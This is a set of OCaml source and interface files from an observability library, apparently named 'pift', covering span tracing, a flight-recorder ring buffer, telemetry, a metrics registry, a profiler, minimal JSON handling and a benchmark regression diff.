(** Sniff what a top-level object is, by the keys that are present —
    extra unknown keys never change the answer, so snapshots from newer
    builds stay readable and foreign objects come back [Unknown] (to be
    skipped with a warning) instead of failing the whole report.
    Specific provenance handles win over the generic ["traceEvents"]. *)

val looks_like_dot : string -> bool
(** Raw-content sniff for Graphviz exports (first non-blank line starts
    with ["digraph"]); DOT files are not JSON, so [pift report] must
    catch them before parsing. *)

val samples_of_json : Json.t -> Registry.sample list
val spans_of_json : Json.t -> Span.t list
val run_of_json : Json.t -> string

val prometheus : Registry.sample list -> Format.formatter -> unit -> unit
(** [# HELP]/[# TYPE] exposition.  Histograms expand to cumulative
    [_bucket{le=...}] lines plus [_sum]/[_count]; gauges also expose a
    sibling [name_peak] gauge.  Label values escape exactly backslash,
    double quote and newline, per the exposition format — family labels
    can carry externally influenced strings (marker kinds, pids). *)

val render :
  ?run:string ->
  ?spans:Span.t list ->
  Registry.sample list ->
  Format.formatter ->
  unit ->
  unit
(** Human summary: span tree with durations, counter bar chart, gauge and
    histogram tables. *)

val render_json : Json.t -> Format.formatter -> unit -> unit
(** {!render} over a parsed snapshot line (the [pift report] path). *)

val render_flow_graph_json : Json.t -> Format.formatter -> unit -> unit
(** Per-sink flow summary (origin set and longest path length) of a
    {!Flow_graph} export. *)

val render_attribution_json : Json.t -> Format.formatter -> unit -> unit
(** Class counts, mean Jaccard and per-sink rows of an {!Attribution}
    export. *)
