type t = {
  sp_name : string;
  mutable sp_seconds : float;
  mutable sp_children_rev : t list;
}

let name s = s.sp_name
let seconds s = s.sp_seconds
let children s = List.rev s.sp_children_rev

type collector = { mutable roots_rev : t list; mutable stack : t list }

(* One collector per domain.  The old single process-global collector
   corrupted both the span tree and the stack when worker domains called
   [with_] concurrently (interleaved pushes re-parented spans under the
   wrong node and the [top == span] pop check made stacks leak).  A
   domain-local collector keeps [with_] lock-free and allocation-light on
   the hot path, and each domain's tree stays internally consistent;
   [roots]/[reset] act on the calling domain's collector. *)
let collector : collector Domain.DLS.key =
  Domain.DLS.new_key (fun () -> { roots_rev = []; stack = [] })

let reset () =
  let c = Domain.DLS.get collector in
  c.roots_rev <- [];
  c.stack <- []

let with_ ~name f =
  let c = Domain.DLS.get collector in
  let span = { sp_name = name; sp_seconds = 0.; sp_children_rev = [] } in
  (match c.stack with
  | parent :: _ -> parent.sp_children_rev <- span :: parent.sp_children_rev
  | [] -> c.roots_rev <- span :: c.roots_rev);
  c.stack <- span :: c.stack;
  let t0 = Unix.gettimeofday () in
  Fun.protect
    ~finally:(fun () ->
      span.sp_seconds <- Unix.gettimeofday () -. t0;
      match c.stack with
      | top :: rest when top == span -> c.stack <- rest
      | _ -> ())
    f

let roots () = List.rev (Domain.DLS.get collector).roots_rev

let make ~name ~seconds children =
  { sp_name = name; sp_seconds = seconds; sp_children_rev = List.rev children }

let rec iter ?(depth = 0) f span =
  f ~depth span;
  List.iter (iter ~depth:(depth + 1) f) (children span)
