type t = {
  sp_name : string;
  mutable sp_seconds : float;
  mutable sp_children_rev : t list;
}

let name s = s.sp_name
let seconds s = s.sp_seconds
let children s = List.rev s.sp_children_rev

(* One implicit collector per process: the CLI and bench are
   single-threaded drivers, and a global keeps [with_] callable from deep
   inside phases without threading a handle everywhere. *)
let roots_rev : t list ref = ref []
let stack : t list ref = ref []

let reset () =
  roots_rev := [];
  stack := []

let with_ ~name f =
  let span = { sp_name = name; sp_seconds = 0.; sp_children_rev = [] } in
  (match !stack with
  | parent :: _ -> parent.sp_children_rev <- span :: parent.sp_children_rev
  | [] -> roots_rev := span :: !roots_rev);
  stack := span :: !stack;
  let t0 = Unix.gettimeofday () in
  Fun.protect
    ~finally:(fun () ->
      span.sp_seconds <- Unix.gettimeofday () -. t0;
      match !stack with
      | top :: rest when top == span -> stack := rest
      | _ -> ())
    f

let roots () = List.rev !roots_rev

let make ~name ~seconds children =
  { sp_name = name; sp_seconds = seconds; sp_children_rev = List.rev children }

let rec iter ?(depth = 0) f span =
  f ~depth span;
  List.iter (iter ~depth:(depth + 1) f) (children span)
