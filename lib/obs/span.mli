(** Wall-clock span tracing for run phases (record / replay / eval).

    [with_ ~name f] times [f] and files the span under the innermost
    enclosing [with_], producing a tree per top-level call.  The
    collector is domain-local: spans recorded on a pool worker never
    interleave into another domain's tree or corrupt its stack, and
    {!reset}/{!roots} act on the calling domain's collector.  Drivers
    call {!reset} at the start of a run and {!roots} at the end (on the
    same domain); worker-side trees are reachable only from the worker,
    so cross-domain timelines belong to {!Flight}, not here. *)

type t

val with_ : name:string -> (unit -> 'a) -> 'a
(** Timed even when [f] raises; the exception is re-raised. *)

val reset : unit -> unit
val roots : unit -> t list
(** Completed top-level spans, oldest first. *)

val name : t -> string

val seconds : t -> float
(** Wall-clock duration. *)

val children : t -> t list
(** Nested spans, in start order. *)

val make : name:string -> seconds:float -> t list -> t
(** Build a span tree directly (sink round-trips, tests). *)

val iter : ?depth:int -> (depth:int -> t -> unit) -> t -> unit
(** Pre-order walk with nesting depth. *)
