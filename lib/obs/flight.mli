(** Flight recorder: a fixed-capacity ring buffer of timestamped
    structured events.

    Each pool worker slot owns one ring and is its only writer, so
    recording needs no locks; the hot path is a clock read plus a few
    array stores into preallocated slots (no per-event allocation).
    When the ring fills, the oldest events are overwritten — the newest
    [capacity] events are always kept.  A ring created with
    [~capacity:0] accepts every call as a no-op, which is how tracing is
    disabled without branching at call sites.

    Timestamps come from one process-wide epoch (captured at module
    load) and are clamped per ring to be non-negative and non-decreasing,
    so per-slot event sequences merge onto a common, monotonic time
    axis (see {!Timeline} and {!Chrome}). *)

type kind =
  | Begin  (** span opening ([B] phase in Chrome trace terms) *)
  | End  (** span closing ([E]) *)
  | Instant  (** point marker ([i]) *)
  | Sample  (** counter sample ([C]); [value] carries the reading *)

type event = { kind : kind; name : string; ts : float; value : float }
(** [ts] is seconds since the process flight epoch. *)

type t

val default_capacity : int
(** 65536 events — enough for a full 200-cell sweep per worker slot. *)

val create : ?capacity:int -> unit -> t
(** Preallocate a ring of [capacity] slots (default
    {!default_capacity}; values [<= 0] make every recording call a
    no-op). *)

val capacity : t -> int

val now : unit -> float
(** Seconds since the flight epoch — the clock every ring stamps with. *)

val begin_ : t -> string -> unit
(** Open a span.  Pass a literal or prebuilt name: the ring stores the
    pointer, so no allocation happens here. *)

val end_ : t -> string -> unit
val instant : t -> string -> unit

val sample : t -> string -> float -> unit
(** Record a counter reading; same-named samples form a counter track. *)

val length : t -> int
(** Events currently held, [<= capacity]. *)

val written : t -> int
(** Events ever recorded (including overwritten ones). *)

val dropped : t -> int
(** Events lost to wrap-around: [written - length] when full. *)

val clear : t -> unit

val iter : (event -> unit) -> t -> unit
(** Oldest surviving event first. *)

val events : t -> event list
(** The held events, oldest first. *)
