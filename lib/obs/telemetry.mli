(** Continuous telemetry: a bounded ring of periodic snapshots taken
    while a run is in flight.

    A telemetry instance holds named {e sources} — closures over live
    tracker/store/storage state — plus, optionally, a whole metrics
    registry.  The instrumented hot path calls {!bump} once per event;
    every [every] events (or every [interval] seconds, whichever
    triggers first) the instance reads all sources into a snapshot.
    When the ring fills, the oldest snapshots are overwritten and
    counted by {!dropped}; a ring created with [~capacity:0] accepts
    every call as a no-op — recording is off, the [Flight] convention.

    One instance per pool worker slot, single writer, no locks; merge
    with {!merged}/{!write_jsonl} after the parallel region.  Nothing
    here ever touches stdout, so runs are byte-identical with telemetry
    on or off. *)

type snapshot = {
  sn_seq : int;  (** snapshots taken before this one *)
  sn_ts : float;  (** seconds since the flight epoch ({!Flight.now}) *)
  sn_events : int;  (** bumps seen when the snapshot was taken *)
  sn_values : (string * float) list;
}

type t

val default_capacity : int
(** 1024 snapshots. *)

val default_every : int
(** 4096 events between snapshots. *)

val create : ?capacity:int -> ?every:int -> ?interval:float -> unit -> t
(** [capacity] (default {!default_capacity}; [<= 0] = recording off)
    bounds the ring; [every] (default {!default_every}; [<= 0] disables
    the event trigger) and [interval] (seconds, default [0.] =
    disabled) set the snapshot cadence.  The wall clock is only read
    every 64 bumps, so interval-driven telemetry stays cheap. *)

val capacity : t -> int

val set_source : t -> name:string -> (unit -> float) -> unit
(** Register (or {e replace}) the source read as [name] on every
    snapshot.  Replacement matters: a sweep builds a tracker per grid
    cell against the same per-slot telemetry, and each must rebind
    ["tainted_bytes"] to its own store rather than accumulate
    duplicates. *)

val attach_registry : t -> Registry.t -> unit
(** Also snapshot every counter and gauge of [registry] (named by
    metric, with a [{label=value}] suffix for family cells); histograms
    are skipped. *)

val on_snapshot : t -> (unit -> unit) -> unit
(** Hook called after each snapshot is taken — how [pift top] repaints
    mid-run without polling. *)

val bump : t -> unit
(** Count one event; takes a snapshot when the cadence says so.  The
    per-event cost is an increment and a compare. *)

val sample_now : t -> unit
(** Take a snapshot immediately (e.g. one final reading at the end of a
    run). *)

val taken : t -> int
(** Snapshots ever taken (including overwritten ones). *)

val events : t -> int
val length : t -> int
val dropped : t -> int
(** Snapshots lost to ring wrap-around. *)

val snapshots : t -> snapshot list
(** Surviving snapshots, oldest first. *)

val latest : t -> (string * float) list
(** The newest snapshot's values; [[]] before the first snapshot. *)

val clear : t -> unit

val merged : t array -> (int * snapshot) list
(** Per-slot snapshots interleaved on the common time axis as
    [(slot, snapshot)], ties broken by slot then sequence. *)

val write_jsonl : out_channel -> run:string -> t array -> unit
(** One header line (slot count, ring health) then one line per
    snapshot, all keyed ["pift_telemetry"] — what [Sink.classify]
    sniffs and [pift report] renders. *)

(** {2 Decoding and rendering (pift report)} *)

exception Malformed of string

type series = { se_name : string; se_points : (float * float) list }

type file = {
  f_run : string;
  f_slots : int;
  f_taken : int;
  f_dropped : int;
  f_series : series list;
}

val of_json_lines : Json.t list -> file
(** Fold the ["pift_telemetry"] lines of a report file (in file order)
    into per-metric series.  Raises {!Malformed} on structurally
    invalid lines. *)

val sparkline : ?width:int -> float list -> string
(** Eight-level Unicode sparkline, downsampled to at most [width]
    (default 44) cells. *)

val render_file : file -> Format.formatter -> unit -> unit

val render_json_lines : Json.t list -> Format.formatter -> unit -> unit
(** {!of_json_lines} + {!render_file}: per-metric min/max/last summary
    rows with sparklines, plus a ring-health warning when snapshots
    were dropped. *)
