module Counter = Metric.Counter
module Gauge = Metric.Gauge
module Histogram = Metric.Histogram

type kind = Counter_kind | Gauge_kind | Histogram_kind

let kind_to_string = function
  | Counter_kind -> "counter"
  | Gauge_kind -> "gauge"
  | Histogram_kind -> "histogram"

type cell =
  | Counter_cell of Counter.t
  | Gauge_cell of Gauge.t
  | Histogram_cell of Histogram.t

type entry = {
  e_name : string;
  e_help : string;
  e_kind : kind;
  e_label : string option;  (* family label key; [None] = single cell *)
  e_cells : (string, cell) Hashtbl.t;  (* label value -> cell; "" if plain *)
  mutable e_values_rev : string list;  (* label values in insertion order *)
}

type t = {
  entries : (string, entry) Hashtbl.t;
  mutable names_rev : string list;
}

let create () = { entries = Hashtbl.create 32; names_rev = [] }

let entry t ~name ~help ~kind ~label =
  match Hashtbl.find_opt t.entries name with
  | Some e ->
      if e.e_kind <> kind then
        invalid_arg
          (Printf.sprintf "Registry: %s already registered as a %s" name
             (kind_to_string e.e_kind));
      if e.e_label <> label then
        invalid_arg
          (Printf.sprintf "Registry: %s label mismatch" name);
      e
  | None ->
      let e =
        {
          e_name = name;
          e_help = help;
          e_kind = kind;
          e_label = label;
          e_cells = Hashtbl.create 4;
          e_values_rev = [];
        }
      in
      Hashtbl.add t.entries name e;
      t.names_rev <- name :: t.names_rev;
      e

let cell e ~value ~make =
  match Hashtbl.find_opt e.e_cells value with
  | Some c -> c
  | None ->
      let c = make () in
      Hashtbl.add e.e_cells value c;
      e.e_values_rev <- value :: e.e_values_rev;
      c

let plain t ~name ~help ~kind ~make =
  let e = entry t ~name ~help ~kind ~label:None in
  cell e ~value:"" ~make

let counter t ?(help = "") name =
  match
    plain t ~name ~help ~kind:Counter_kind ~make:(fun () ->
        Counter_cell (Counter.create ()))
  with
  | Counter_cell c -> c
  | Gauge_cell _ | Histogram_cell _ -> assert false

let gauge t ?(help = "") name =
  match
    plain t ~name ~help ~kind:Gauge_kind ~make:(fun () ->
        Gauge_cell (Gauge.create ()))
  with
  | Gauge_cell g -> g
  | Counter_cell _ | Histogram_cell _ -> assert false

let histogram t ?(help = "") name =
  match
    plain t ~name ~help ~kind:Histogram_kind ~make:(fun () ->
        Histogram_cell (Histogram.create ()))
  with
  | Histogram_cell h -> h
  | Counter_cell _ | Gauge_cell _ -> assert false

let counter_family t ?(help = "") ~label name =
  let e = entry t ~name ~help ~kind:Counter_kind ~label:(Some label) in
  fun value ->
    match
      cell e ~value ~make:(fun () -> Counter_cell (Counter.create ()))
    with
    | Counter_cell c -> c
    | Gauge_cell _ | Histogram_cell _ -> assert false

let gauge_family t ?(help = "") ~label name =
  let e = entry t ~name ~help ~kind:Gauge_kind ~label:(Some label) in
  fun value ->
    match cell e ~value ~make:(fun () -> Gauge_cell (Gauge.create ())) with
    | Gauge_cell g -> g
    | Counter_cell _ | Histogram_cell _ -> assert false

(* --- merging ----------------------------------------------------------- *)

let merge ~into src =
  List.iter
    (fun name ->
      let se = Hashtbl.find src.entries name in
      let de =
        entry into ~name ~help:se.e_help ~kind:se.e_kind ~label:se.e_label
      in
      List.iter
        (fun value ->
          let make () =
            match se.e_kind with
            | Counter_kind -> Counter_cell (Counter.create ())
            | Gauge_kind -> Gauge_cell (Gauge.create ())
            | Histogram_kind -> Histogram_cell (Histogram.create ())
          in
          match (Hashtbl.find se.e_cells value, cell de ~value ~make) with
          | Counter_cell s, Counter_cell d -> Counter.merge_into ~into:d s
          | Gauge_cell s, Gauge_cell d -> Gauge.merge_into ~into:d s
          | Histogram_cell s, Histogram_cell d ->
              Histogram.merge_into ~into:d s
          | _ -> assert false (* [entry] checked the kinds agree *))
        (List.rev se.e_values_rev))
    (List.rev src.names_rev)

(* --- snapshots --------------------------------------------------------- *)

type point =
  | P_counter of int
  | P_gauge of { value : float; peak : float }
  | P_histogram of {
      count : int;
      sum : int;
      vmax : int;
      buckets : (int * int) list;
    }

type sample = {
  s_name : string;
  s_help : string;
  s_kind : kind;
  s_points : ((string * string) list * point) list;
}

let point_of_cell = function
  | Counter_cell c -> P_counter (Counter.value c)
  | Gauge_cell g -> P_gauge { value = Gauge.value g; peak = Gauge.peak g }
  | Histogram_cell h ->
      P_histogram
        {
          count = Histogram.count h;
          sum = Histogram.sum h;
          vmax = Histogram.max_value h;
          buckets = Histogram.nonzero_buckets h;
        }

let snapshot t =
  List.rev_map
    (fun name ->
      let e = Hashtbl.find t.entries name in
      let labels value =
        match e.e_label with
        | None -> []
        | Some key -> [ (key, value) ]
      in
      let points =
        List.rev_map
          (fun value ->
            (labels value, point_of_cell (Hashtbl.find e.e_cells value)))
          e.e_values_rev
      in
      {
        s_name = e.e_name;
        s_help = e.e_help;
        s_kind = e.e_kind;
        s_points = points;
      })
    t.names_rev

let find_counter t name =
  match Hashtbl.find_opt t.entries name with
  | Some { e_label = None; e_cells; _ } -> (
      match Hashtbl.find_opt e_cells "" with
      | Some (Counter_cell c) -> Some (Counter.value c)
      | Some (Gauge_cell _ | Histogram_cell _) | None -> None)
  | Some _ | None -> None

let find_gauge t name =
  match Hashtbl.find_opt t.entries name with
  | Some { e_label = None; e_cells; _ } -> (
      match Hashtbl.find_opt e_cells "" with
      | Some (Gauge_cell g) -> Some (Gauge.value g)
      | Some (Counter_cell _ | Histogram_cell _) | None -> None)
  | Some _ | None -> None
