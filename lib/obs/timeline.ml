type track = { tid : int; events : Flight.event list; dropped : int }

type t = { tracks : track list }

let of_rings rings =
  {
    tracks =
      List.mapi
        (fun tid ring ->
          { tid; events = Flight.events ring; dropped = Flight.dropped ring })
        (Array.to_list rings);
  }

let tracks t = t.tracks

let event_count t =
  List.fold_left (fun acc tr -> acc + List.length tr.events) 0 t.tracks

let dropped t = List.fold_left (fun acc tr -> acc + tr.dropped) 0 t.tracks

let span_bounds t =
  List.fold_left
    (fun bounds tr ->
      List.fold_left
        (fun bounds (e : Flight.event) ->
          match bounds with
          | None -> Some (e.Flight.ts, e.Flight.ts)
          | Some (lo, hi) ->
              Some (min lo e.Flight.ts, max hi e.Flight.ts))
        bounds tr.events)
    None t.tracks
