module Counter = struct
  type t = { mutable v : int }

  let create () = { v = 0 }
  let incr c = c.v <- c.v + 1

  let add c n =
    if n < 0 then invalid_arg "Counter.add: negative increment";
    c.v <- c.v + n

  let value c = c.v
  let merge_into ~into c = into.v <- into.v + c.v
end

module Gauge = struct
  type t = { mutable v : float; mutable peak : float }

  let create () = { v = 0.; peak = 0. }

  let set_float g v =
    g.v <- v;
    if v > g.peak then g.peak <- v

  let set g v = set_float g (float_of_int v)
  let value g = g.v
  let peak g = g.peak

  (* Gauges from concurrent workers have no meaningful "last" value, so a
     merge keeps the maximum of both value and peak — right for the
     high-water readings (tainted bytes, range count) gauges carry here. *)
  let merge_into ~into g =
    if g.v > into.v then into.v <- g.v;
    if g.peak > into.peak then into.peak <- g.peak
end

module Histogram = struct
  (* Bucket 0 counts observations <= 0; bucket b >= 1 counts values in
     [2^(b-1), 2^b - 1].  62 power-of-two buckets cover every positive
     OCaml int, so [observe] never needs an overflow case. *)
  let buckets_count = 63

  type t = {
    buckets : int array;
    mutable count : int;
    mutable sum : int;
    mutable vmax : int;
  }

  let create () =
    { buckets = Array.make buckets_count 0; count = 0; sum = 0; vmax = 0 }

  let bucket_of v =
    if v <= 0 then 0
    else begin
      let b = ref 0 and x = ref v in
      while !x > 0 do
        incr b;
        x := !x lsr 1
      done;
      !b
    end

  let lower_bound b = if b <= 0 then 0 else 1 lsl (b - 1)
  let upper_bound b = if b <= 0 then 0 else (1 lsl b) - 1

  let observe h v =
    let b = bucket_of v in
    h.buckets.(b) <- h.buckets.(b) + 1;
    h.count <- h.count + 1;
    h.sum <- h.sum + v;
    if v > h.vmax then h.vmax <- v

  let count h = h.count
  let sum h = h.sum
  let max_value h = h.vmax

  let mean h =
    if h.count = 0 then 0. else float_of_int h.sum /. float_of_int h.count

  let merge_into ~into h =
    Array.iteri
      (fun b n -> into.buckets.(b) <- into.buckets.(b) + n)
      h.buckets;
    into.count <- into.count + h.count;
    into.sum <- into.sum + h.sum;
    if h.vmax > into.vmax then into.vmax <- h.vmax

  (* Non-empty buckets as [(upper_bound, count)], lowest first. *)
  let nonzero_buckets h =
    let acc = ref [] in
    for b = buckets_count - 1 downto 0 do
      if h.buckets.(b) > 0 then acc := (upper_bound b, h.buckets.(b)) :: !acc
    done;
    !acc
end
