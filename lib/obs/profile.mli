(** Overhead-attribution profiler: hierarchical timed regions folded
    into flamegraph-compatible stacks.

    Hot paths bracket themselves with {!enter}/{!leave} (or the
    [option]-gated {!span}); each completed region accumulates its
    *self* time — wall time minus the time of the regions entered
    beneath it — under its semicolon-joined path
    (["pool;replay;tracker;store"]).  Self times are additive: a folded
    stack sums to the instrumented wall clock, which is what makes the
    per-subsystem percentage breakdown meaningful.

    One instance per worker slot, single writer, no locks; merge the
    slots with {!merged} after a parallel region, the profiler sibling
    of [Registry.merge]. *)

type t

val create : unit -> t

val enter : t -> string -> unit
(** Open a region named [name] under the currently open region. *)

val leave : t -> unit
(** Close the innermost open region and attribute its self time.
    No-op when nothing is open. *)

val span : t option -> string -> (unit -> 'a) -> 'a
(** [span (Some t) name f] brackets [f] with {!enter}/{!leave} (closing
    on exceptions too); [span None name f] is just [f ()] — the no-op
    branch un-profiled runs stay on. *)

val reset : t -> unit

val folded : t -> (string * float) list
(** Completed regions as (folded path, self seconds), in
    first-completion order.  Regions still open contribute nothing. *)

val merged : t array -> (string * float) list
(** Per-slot results summed by path — slot 0's ordering first, later
    slots' new paths appended. *)

val to_folded_string : (string * float) list -> string
(** One ["path µs"] line per region (self time in integer
    microseconds) — feed it to flamegraph.pl or speedscope. *)

exception Malformed of string

val parse_folded : string -> (string * float) list
(** Inverse of {!to_folded_string}; weights come back as seconds.
    Raises {!Malformed} on lines that are not ["path <int>"]. *)

val looks_like_folded : string -> bool
(** Raw-content sniff for [pift report]: first non-blank line ends in a
    space-separated integer and does not look like JSON. *)

val leaf : string -> string
(** Last segment of a folded path — the region (subsystem) name. *)

val breakdown : (string * float) list -> (string * float * float) list
(** Self time grouped by region name: (name, seconds, percent of the
    attributed total), sorted by share descending. *)

val render :
  ?source:string -> (string * float) list -> Format.formatter -> unit -> unit
(** Human summary: per-subsystem share table plus the hottest stacks
    (the [pift report] view of a folded profile). *)
