(** Named-metric registry: the single handle a run threads through the
    tracker, VM, CPU, and hardware model.

    Registration is idempotent — asking twice for the same name returns
    the same cell, so independent subsystems can share a metric — and
    conflicting re-registration (same name, different kind or label key)
    raises.  Families ([counter_family], [gauge_family]) attach one label
    key (e.g. [pid]) and materialise cells per label value on first use.

    A {!snapshot} is a point-in-time, immutable copy of every metric in
    registration order; the {!Sink} module renders snapshots as JSON
    Lines, Prometheus text exposition, or a human summary. *)

type t

val create : unit -> t

type kind = Counter_kind | Gauge_kind | Histogram_kind

val kind_to_string : kind -> string
(** ["counter"], ["gauge"], or ["histogram"] — the exposition names. *)

val counter : t -> ?help:string -> string -> Metric.Counter.t
val gauge : t -> ?help:string -> string -> Metric.Gauge.t
val histogram : t -> ?help:string -> string -> Metric.Histogram.t

val counter_family :
  t -> ?help:string -> label:string -> string -> string -> Metric.Counter.t
(** [counter_family t ~label name] is a lookup function from label value
    to counter cell.  Partial-apply it once and keep the closure on the
    instrumented object; full application is a hashtable probe. *)

val gauge_family :
  t -> ?help:string -> label:string -> string -> string -> Metric.Gauge.t

val merge : into:t -> t -> unit
(** Fold every metric of the source registry into [into], matching by
    name (and label value for families): counters and histograms add,
    gauges keep the maximum of value and peak (see
    {!Metric.Gauge.merge_into}).  Metrics missing from [into] are
    registered in the source's registration order, so merging
    per-worker registries worker 0 first yields the same snapshot
    order as a serial run.  Raises [Invalid_argument] if a name is
    already registered in [into] with a different kind or label key.
    This is the aggregation rule behind [Pift_par]-driven sweeps: each
    worker domain owns a private registry (no locks on the hot path)
    and the driver merges them after the parallel region. *)

(** {2 Snapshots} *)

type point =
  | P_counter of int
  | P_gauge of { value : float; peak : float }
  | P_histogram of {
      count : int;
      sum : int;
      vmax : int;
      buckets : (int * int) list;  (** (inclusive upper bound, count) *)
    }

type sample = {
  s_name : string;
  s_help : string;
  s_kind : kind;
  s_points : ((string * string) list * point) list;
      (** one per label value, in first-use order; labels empty for
          plain metrics *)
}

val snapshot : t -> sample list
(** All metrics in registration order. *)

val find_counter : t -> string -> int option
(** Current value of a plain (unlabelled) counter, for assertions. *)

val find_gauge : t -> string -> float option
