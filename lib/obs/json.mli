(** Minimal JSON — just enough for the metrics sinks and [pift report]
    to round-trip their own output without an external dependency. *)

type t =
  | Null
  | Bool of bool
  | Int of int
  | Float of float
  | String of string
  | List of t list
  | Obj of (string * t) list

val to_string : t -> string
(** Compact single-line rendering (JSON Lines friendly). *)

exception Parse_error of string

val of_string : string -> t
(** Raises {!Parse_error} on malformed input or trailing garbage. *)

val member : string -> t -> t option
val to_int : t -> int option
val to_float : t -> float option
val to_str : t -> string option
val to_list : t -> t list option
