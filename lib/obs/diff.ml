(* Structural comparison of two metrics/bench JSON files — the engine
   behind `pift report --diff A B` and the CI regression gate over the
   committed BENCH_*.json trajectory.

   The walk pairs fields by key (objects), by "name" member (lists of
   named objects, so metrics arrays survive reordering) or by index.
   Whether a numeric change is a *regression* depends on the field's
   direction, inferred from its path: seconds/bytes/stalls grow worse
   upward, throughputs/speedups/accuracies grow worse downward, and
   everything else (counts, parameters) is informational only.  A
   change regresses when it moves in the worse direction by more than
   [max_ratio] AND by at least [min_abs] in absolute terms — the
   absolute floor keeps microbenchmark noise (a 0.4 ms stage doubling
   on a busy CI runner) from failing the gate. *)

type direction = Higher_worse | Lower_worse | Neutral

type change = {
  c_path : string;
  c_base : float;
  c_cur : float;
  c_direction : direction;
  c_severity : float;  (* worse-direction ratio; 1.0 when not worse *)
  c_regressed : bool;
}

type result = {
  r_changes : change list;  (* numeric fields that differ, walk order *)
  r_notes : string list;  (* structural / non-numeric differences *)
  r_compared : int;  (* numeric fields compared *)
  r_regressions : int;
}

let contains s sub =
  let n = String.length s and m = String.length sub in
  let rec go i =
    i + m <= n && (String.equal (String.sub s i m) sub || go (i + 1))
  in
  m > 0 && go 0

(* Direction by path substring.  Lower-worse wins ties ("events_per_sec"
   contains no higher-worse token, but be explicit about precedence so
   e.g. a hypothetical "bytes_per_sec" reads as a throughput). *)
let direction_of_path path =
  let p = String.lowercase_ascii path in
  if
    contains p "per_sec" || contains p "speedup" || contains p "accuracy"
    || contains p "jaccard" || contains p "hit_rate"
  then Lower_worse
  else if
    contains p "seconds" || contains p "_ms" || contains p "_ns"
    || contains p "bytes" || contains p "stall" || contains p "overhead"
    || contains p "dropped" || contains p "drops" || contains p "miss"
    || contains p "evict"
  then Higher_worse
  else Neutral

type ctx = {
  max_ratio : float;
  min_abs : float;
  mutable changes_rev : change list;
  mutable notes_rev : string list;
  mutable compared : int;
  mutable regressions : int;
}

let note ctx fmt =
  Printf.ksprintf (fun s -> ctx.notes_rev <- s :: ctx.notes_rev) fmt

let regression_note ctx fmt =
  Printf.ksprintf
    (fun s ->
      ctx.notes_rev <- ("REGRESSION " ^ s) :: ctx.notes_rev;
      ctx.regressions <- ctx.regressions + 1)
    fmt

let num ctx path a b =
  ctx.compared <- ctx.compared + 1;
  if a <> b then begin
    let dir = direction_of_path path in
    let worse =
      match dir with
      | Neutral -> false
      | Higher_worse -> b > a
      | Lower_worse -> b < a
    in
    let severity =
      if not worse then 1.
      else
        match dir with
        | Higher_worse -> if a = 0. then infinity else b /. a
        | Lower_worse -> if b = 0. then infinity else a /. b
        | Neutral -> 1.
    in
    let regressed =
      worse && severity > ctx.max_ratio
      && Float.abs (b -. a) >= ctx.min_abs
    in
    if regressed then ctx.regressions <- ctx.regressions + 1;
    ctx.changes_rev <-
      {
        c_path = path;
        c_base = a;
        c_cur = b;
        c_direction = dir;
        c_severity = severity;
        c_regressed = regressed;
      }
      :: ctx.changes_rev
  end

let join path key = if String.equal path "" then key else path ^ "." ^ key

let name_of = function
  | Json.Obj fields -> (
      match List.assoc_opt "name" fields with
      | Some (Json.String s) -> Some s
      | _ -> None)
  | _ -> None

let rec walk ctx path base cur =
  match (base, cur) with
  | (Json.Int _ | Json.Float _), (Json.Int _ | Json.Float _) ->
      (* mixed int/float encodings of the same field compare numerically *)
      let f = function
        | Json.Int i -> float_of_int i
        | Json.Float x -> x
        | _ -> assert false
      in
      num ctx path (f base) (f cur)
  | Json.Bool a, Json.Bool b ->
      if a <> b then
        if a && not b then
          (* a correctness flag going false is always a regression,
             whatever the threshold (e.g. BENCH identical_cells) *)
          regression_note ctx "%s: true -> false" path
        else note ctx "%s: false -> true" path
  | Json.String a, Json.String b ->
      if not (String.equal a b) then note ctx "%s: %S -> %S" path a b
  | Json.Null, Json.Null -> ()
  | Json.Obj a, Json.Obj b ->
      List.iter
        (fun (key, va) ->
          match List.assoc_opt key b with
          | Some vb -> walk ctx (join path key) va vb
          | None -> note ctx "%s: missing from current file" (join path key))
        a;
      List.iter
        (fun (key, _) ->
          if not (List.mem_assoc key a) then
            note ctx "%s: only in current file" (join path key))
        b
  | Json.List a, Json.List b ->
      let named l = List.for_all (fun j -> name_of j <> None) l in
      if a <> [] && b <> [] && named a && named b then
        (* lists of named objects (metrics arrays) pair by name, so
           reordering is not a difference *)
        List.iter
          (fun va ->
            let n = Option.get (name_of va) in
            match
              List.find_opt
                (fun vb -> name_of vb = Some n)
                b
            with
            | Some vb -> walk ctx (join path n) va vb
            | None -> note ctx "%s: missing from current file" (join path n))
          a
      else begin
        let la = List.length a and lb = List.length b in
        if la <> lb then note ctx "%s: %d vs %d elements" path la lb;
        List.iteri
          (fun i va ->
            match List.nth_opt b i with
            | Some vb -> walk ctx (Printf.sprintf "%s[%d]" path i) va vb
            | None -> ())
          a
      end
  | _ ->
      note ctx "%s: different shapes (%s vs %s)" path (shape base) (shape cur)

and shape = function
  | Json.Null -> "null"
  | Json.Bool _ -> "bool"
  | Json.Int _ | Json.Float _ -> "number"
  | Json.String _ -> "string"
  | Json.List _ -> "list"
  | Json.Obj _ -> "object"

let default_max_ratio = 1.25

let compare_json ?(max_ratio = default_max_ratio) ?(min_abs = 0.) ~baseline
    ~current () =
  let ctx =
    {
      max_ratio;
      min_abs;
      changes_rev = [];
      notes_rev = [];
      compared = 0;
      regressions = 0;
    }
  in
  walk ctx "" baseline current;
  {
    r_changes = List.rev ctx.changes_rev;
    r_notes = List.rev ctx.notes_rev;
    r_compared = ctx.compared;
    r_regressions = ctx.regressions;
  }

let num_str v =
  if Float.is_integer v && Float.abs v < 1e15 then Printf.sprintf "%.0f" v
  else Printf.sprintf "%.6g" v

let render ?(label_a = "baseline") ?(label_b = "current") r ppf () =
  Format.fprintf ppf "== report diff (%s -> %s) ==@." label_a label_b;
  Format.fprintf ppf "@[<v>%d numeric fields compared; %d changed, %d note(s), \
                      %d regression(s)@,"
    r.r_compared
    (List.length r.r_changes)
    (List.length r.r_notes) r.r_regressions;
  let show c =
    let tag = if c.c_regressed then "REGRESSION" else "change" in
    let dir =
      match c.c_direction with
      | Neutral -> ""
      | Higher_worse | Lower_worse ->
          if c.c_severity > 1. then
            Printf.sprintf " (%.2fx worse)" c.c_severity
          else " (better)"
    in
    Format.fprintf ppf "  %-10s %s: %s -> %s%s@," tag c.c_path
      (num_str c.c_base) (num_str c.c_cur) dir
  in
  List.iter show (List.filter (fun c -> c.c_regressed) r.r_changes);
  List.iter show (List.filter (fun c -> not c.c_regressed) r.r_changes);
  List.iter (fun n -> Format.fprintf ppf "  %s@," n) r.r_notes;
